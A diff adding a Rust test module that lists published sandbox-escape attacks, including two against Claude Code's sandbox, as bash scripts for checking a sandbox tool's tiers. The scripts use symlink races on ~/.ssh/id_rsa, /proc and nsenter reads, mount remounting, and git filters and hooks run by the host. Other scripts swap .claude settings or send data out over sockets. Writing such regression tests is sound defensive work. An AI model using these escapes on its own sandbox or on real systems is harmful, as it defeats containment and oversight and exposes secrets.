@@ -1,0 +1,218 @@
+//! Published attacks on sandboxes: on what a command inside reaches, on names that it leaves, and on the helpers outside that
+//! copy, sweep and keep state.
+
+/// An attack by a command in a sandbox.
+#[derive(Debug)]
+pub(super) struct Live {
+    /// What it is published as.
+    pub(super) id: &'static str,
+    /// How it works, in a few words.
+    pub(super) attack: &'static str,
+    /// Which sandboxes have to hold it.
+    pub(super) tiers: &'static [Tier],
+    /// Whether it succeeds where there is no sandbox, which shows that it is one.
+    pub(super) control: Control,
+    /// What happens, for bash: `box` runs a command in the sandbox, in the workspace `$W`, with the options `$OPTIONS`. `$B` is a
+    /// folder around it, `$N` a word that nobody inside may learn.
+    pub(super) script: &'static str,
+    /// What succeeds afterwards, outside, where the attack did; `$OUT` holds what was printed.
+    pub(super) escaped: &'static str,
+}
+
+/// What makes a sandbox.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) enum Tier {
+    Native,
+    Bwrap,
+    Landlock,
+}
+
+impl Tier {
+    pub(super) const ALL: &[Self] = &[Self::Native, Self::Bwrap, Self::Landlock];
+
+    pub(super) const fn name(self) -> &'static str {
+        match self {
+            Self::Native => "native",
+            Self::Bwrap => "bwrap",
+            Self::Landlock => "landlock",
+        }
+    }
+}
+
+/// Whether an attack succeeds without a sandbox.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) enum Control {
+    Succeeds,
+    /// It is an attack on what exists with a sandbox alone, or takes rights that nobody has here.
+    SaysNothing,
+}
+use Control::{SaysNothing, Succeeds};
+
+/// Landlock cannot keep what exists from being changed, and says so.
+const WITH_NAMES: &[Tier] = &[Tier::Native, Tier::Bwrap];
+
+pub(super) const CASES: &[Live] = &[
+    Live {
+        id: "CVE-2026-120699",
+        attack: "whoever starts a sandbox mounts the machine into it to write",
+        tiers: Tier::ALL,
+        control: SaysNothing,
+        script: "mkdir $HOME/.ssh; for at in / /etc $HOME $HOME/.ssh /usr; do OPTIONS=\"--rw $at\" box true && echo LET-IN; done",
+        escaped: "grep -q LET-IN $OUT",
+    },
+    Live {
+        id: "CVE-2026-103916",
+        attack: "the folder around what is taken away becomes a link meanwhile",
+        tiers: WITH_NAMES,
+        control: SaysNothing,
+        script: "mkdir $B/canary; echo $N > $B/canary/.envrc; ln -s $B/canary link
+            swap='while :; do mkdir -p d; mv -T d e; mv -T link d; mv -T d link; rm -rf e; done'
+            box timeout 6 sh -c \"$swap\" & for i in $(seq 8); do box sh -c 'mkdir -p d; echo x > d/.envrc'; done; wait",
+        escaped: "! grep -q $N $B/canary/.envrc",
+    },
+    Live {
+        id: "CVE-2026-109569",
+        attack: "another process is entered, and with it its view of the disk",
+        tiers: Tier::ALL,
+        control: Succeeds,
+        script: "echo $N > $B/secret; sleep 60 & p=$!
+            box sh -c \"cat /proc/$p/root$B/secret /proc/1/root$B/secret; nsenter -t $p -m cat $B/secret\"; kill $p",
+        escaped: "grep -q $N $OUT",
+    },
+    Live {
+        id: "CVE-2026-94422",
+        attack: "a bus of the session is asked to start what it likes",
+        tiers: Tier::ALL,
+        control: Succeeds,
+        script: "mkdir -p $B/run; export DBUS_SESSION_BUS_ADDRESS=unix:path=$B/run/bus
+            python3 -c \"import socket,sys
+s=socket.socket(socket.AF_UNIX); s.bind('$B/run/bus'); s.listen(1); s.settimeout(4); print('ready', flush=True)
+try: s.accept(); print('REACHED', flush=True)
+except OSError: pass\" & until grep -q ready $OUT; do sleep 0.1; done
+            box python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect('$B/run/bus')\"; box env; wait",
+        escaped: "grep -q -e REACHED -e ^DBUS_SESSION $OUT",
+    },
+    Live {
+        id: "CVE-2026-77179",
+        attack: "a file that is written from outside is unlinked, and a link stands in its place",
+        tiers: Tier::ALL,
+        control: SaysNothing,
+        script: "mkdir $B/canary; echo $N > $B/canary/log; mkdir out; box sh -c \"echo a; rm -rf out; ln -s $B/canary out; seq 9999\" > out/log",
+        escaped: "test \"$(cat $B/canary/log)\" != $N",
+    },
+    Live {
+        id: "CVE-2026-19593, by a command",
+        attack: "attributes and a filter that git of the host runs",
+        tiers: WITH_NAMES,
+        control: Succeeds,
+        script: "git init -q .; echo a > f; git add f; git commit -qm a
+            box sh -c \"echo '* filter=x' | tee .gitattributes > .git/info/attributes; git config filter.x.clean 'touch $B/ran; cat'; \
+            printf '[filter \\\"x\\\"]\\n clean = touch $B/ran; cat\\n' >> .git/config; echo b > f\"
+            git add -A; git status",
+        escaped: "test -e $B/ran",
+    },
+    Live {
+        id: "CVE-2026-72183",
+        attack: "signals that the kernel sends for input go to processes outside",
+        tiers: Tier::ALL,
+        control: Succeeds,
+        script: "sleep 60 & p=$!; box python3 -c \"import fcntl,os
+r,w=os.pipe()
+for owner in ($p, -os.getpgid(0)) if $p else ():
+    try:
+        fcntl.fcntl(r, fcntl.F_SETOWN, owner); fcntl.fcntl(r, 10, 9)
+        fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK); os.write(w, b'x'); break
+    except OSError as e: print(e)\"; sleep 0.3; kill -0 $p && echo ALIVE; kill $p",
+        escaped: "! grep -q ALIVE $OUT",
+    },
+    Live {
+        id: "CVE-2026-46406",
+        attack: "state and temporary files that others may read, or that a link was planted for",
+        tiers: WITH_NAMES,
+        control: SaysNothing,
+        script: "umask 0; box sh -c 'echo x > .envrc; mkdir .vscode; echo x > .vscode/tasks.json'; find $HOME/.local/state/stockade > $B/found",
+        escaped: "! test -s $B/found || find $HOME/.local/state/stockade -maxdepth 1 -perm /077 | grep -q .",
+    },
+    Live {
+        id: "CVE-2026-12039",
+        attack: "questions about names carry data out",
+        tiers: Tier::ALL,
+        control: Succeeds,
+        script: "python3 -c \"import socket
+s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('127.0.0.1', 0)); s.settimeout(4); print('port', s.getsockname()[1], flush=True)
+try: s.recv(100); print('HEARD', flush=True)
+except OSError: pass\" & until grep -q ^port $OUT; do sleep 0.1; done; port=$(awk '/^port/ {print $2}' $OUT)
+            box python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret.example', ('127.0.0.1', $port))\"; wait",
+        escaped: "grep -q HEARD $OUT",
+    },
+    Live {
+        id: "CVE-2026-46695",
+        attack: "what was mounted to be read is mounted once more, to be written",
+        tiers: Tier::ALL,
+        control: SaysNothing,
+        script: "mkdir $B/given; OPTIONS=\"--ro $B/given\" box sh -c \"mount -o remount,rw,bind $B/given; mount -o remount,rw $B/given; \
+            unshare -Urm sh -c 'mount -o remount,rw,bind $B/given; touch $B/given/x'; touch $B/given/x\"",
+        escaped: "test -e $B/given/x",
+    },
+    Live {
+        id: "CVE-2026-34078",
+        attack: "what was looked at becomes a link before it is mounted",
+        tiers: Tier::ALL,
+        control: SaysNothing,
+        script: "mkdir -p $HOME/.ssh $B/given; echo $N > $HOME/.ssh/id_rsa; ln -s $HOME/.ssh $B/link
+            (while :; do mv -T $B/given $B/aside; mv -T $B/link $B/given; mv -T $B/given $B/link; mv -T $B/aside $B/given; done) & p=$!
+            for i in $(seq 20); do OPTIONS=\"--ro $B/given\" box cat $B/given/id_rsa; done; kill $p",
+        escaped: "grep -q $N $OUT",
+    },
+    Live {
+        id: "CVE-2025-68736",
+        attack: "a folder that is moved away while a command is in it leads out",
+        tiers: Tier::ALL,
+        control: Succeeds,
+        script: "mkdir -p in $B/away; echo $N > $B/away/secret
+            box sh -c 'cd in; touch ../here; while test -e ../here; do sleep 0.1; done; sleep 0.3; cat ../secret; ls ..' &
+            until test -e here; do sleep 0.1; done; mv in $B/away/in; rm here; wait",
+        escaped: "grep -q $N $OUT",
+    },
+    Live {
+        id: "CVE-2024-42318",
+        attack: "a call that puts the keys of a process on its parent frees it",
+        tiers: Tier::ALL,
+        control: Succeeds,
+        script: "box python3 -c \"import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+if libc.syscall(250, 1, None) >= 0 and libc.syscall(250, 0, -3, 1) >= 0: print('KEYS')\"",
+        escaped: "grep -q KEYS $OUT",
+    },
+    Live {
+        id: "GHSA-27vp-2mmc-vmh3",
+        attack: "datagrams reach a socket of the host where connections do not",
+        tiers: Tier::ALL,
+        control: Succeeds,
+        script: "mkdir -p deep/node_modules; python3 -c \"import socket
+s=socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.bind('$W/deep/node_modules/s'); s.settimeout(4); print('ready', flush=True)
+try: s.recv(100); print('HEARD', flush=True)
+except OSError: pass\" & until grep -q ready $OUT; do sleep 0.1; done
+            box python3 -c \"import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', '$W/deep/node_modules/s')\"; wait",
+        escaped: "grep -q HEARD $OUT",
+    },
+    Live {
+        id: "Claude Code 2.1.232, hooks",
+        attack: "a repository within the repository has hooks that the host runs",
+        tiers: Tier::ALL,
+        control: Succeeds,
+        script: "box sh -c \"git init -q sub; printf '#!/bin/sh\\ntouch $B/ran\\n' > sub/.git/hooks/pre-commit; chmod +x sub/.git/hooks/pre-commit; echo x > sub/f\"
+            git -C sub add f; git -C sub commit -qm x",
+        escaped: "test -e $B/ran",
+    },
+    Live {
+        id: "Claude Code 2.1.217, links",
+        attack: "`.claude`, or what lies in it, becomes a link after it was looked at",
+        tiers: WITH_NAMES,
+        control: Succeeds,
+        script: "mkdir -p app/.claude; echo $N > app/.claude/settings.json
+            box sh -c 'mkdir mine; echo evil > mine/settings.json; ln -s mine .claude; ln -sfn ../../mine/settings.json app/.claude/settings.json; \
+            mv app old; mkdir app; ln -s ../mine app/.claude'",
+        escaped: "test -e .claude || grep -q evil app/.claude/settings.json",
+    },
+];
